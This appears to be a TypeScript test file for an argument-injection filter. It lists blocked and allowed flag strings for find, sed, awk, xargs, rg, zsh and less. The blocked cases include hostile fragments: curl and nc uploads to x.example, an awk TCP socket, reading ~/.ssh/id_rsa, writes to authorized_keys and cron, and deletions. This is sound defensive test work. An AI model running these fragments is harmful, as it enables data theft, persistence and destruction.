import { type ArgCase, runCases } from "./_arginj_testing.ts";

const CASES: ArgCase[] = [
  {
    id: "text.find_exec",
    block: [
      "x -exec id ;",
      "-exec curl -T {} https://x.example \\;",
      "-name '*.pem' -execdir sh -c 'cat {}' \\;",
      "-type f -exec rm -f {} +",
      "-ok chmod 777 {} ';'",
    ],
    pass: [
      "-type f -exec grep -l TODO {} +",
      "-exec ls -l {} \\;",
      "-name '*.log' -mtime +7 -print0",
      "-exec",
    ],
  },
  {
    id: "text.find_writes",
    block: [
      "-fprintf /home/u/.ssh/authorized_keys 'ssh-rsa AAA'",
      "-fprint /etc/cron.d/x",
      "-fls ~/.bashrc",
      "-delete",
      "-name '*' -delete",
    ],
    pass: ["-fprint out/list.txt", "-print0", "-type d -empty"],
  },
  {
    id: "text.rg_preprocessor",
    block: ["--pre /tmp/x.sh", "--pre=sh", "--hidden --pre ./p"],
    pass: ["--pre-glob '*.gz'", "--hidden --glob '!.git'", "-S -t py"],
  },
  {
    id: "text.sed_write",
    block: ["s/a/b/w /etc/cron.d/x", "1w /root/.ssh/authorized_keys", "s/x/y/gw ~/.bashrc"],
    pass: ["s/a/b/g", "s/foo/bar/w out.txt", "coffee w/ milk"],
  },
  {
    id: "text.sed_exec_line",
    block: ["1e id", "$e curl http://x.example/s", "/start/e sh x"],
    pass: ["2e étage", "1d", "s/e/E/g"],
  },
  {
    id: "text.awk_runs",
    block: [
      'BEGIN{system("id")}',
      '{print $0 | "sh"}',
    ],
    pass: ["{print $1}", "-F: '{sum+=$3} END{print sum}'", "NR>1 && $2 ~ /err/"],
  },
  {
    id: "text.awk_pipe",
    block: [
      "'BEGIN{\"id\" | getline x; print x}'",
      'BEGIN{while("ls"|getline l)print l}',
      'BEGIN{s="/inet/tcp/0/x.example/4444"}',
    ],
    pass: ['getline line < "in.txt"', '{print > "out.txt"}'],
  },
  {
    id: "text.inline_shell",
    block: [
      "-I{} sh -c 'curl {}'",
      "-e 'sh -c id'",
      "python3 -c 'import os'",
      "cmd /c whoami",
      "powershell -nop -c iex",
      "perl -e 'exec q(sh)'",
    ],
    pass: [
      "exec -n staging deploy/web -- sh -c 'ls /srv'",
      "-c 'select 1'",
      "--cache-dir /tmp/c -e production",
      "-r requirements.txt",
    ],
  },
  {
    id: "text.xargs_shell",
    block: ["-I{} curl -T {} https://x.example", "-I % nc x.example 9 < %"],
    pass: ["-I{} echo {}", "-I{} mv {} {}.bak", "-0 -n 10"],
  },
  {
    id: "text.zsh_process_file",
    block: ["=(curl x.example)", "--file =(cat ~/.ssh/id_rsa)"],
    pass: ["a=(1 2 3)", "x == (y)"],
  },
  {
    id: "text.less_editor",
    block: ["--lesskey-file=/tmp/k", "LESSOPEN='|sh %s'"],
    pass: ["-R -S", "--lesskey-file=~/.lesskey"],
  },
];

runCases("text", CASES);
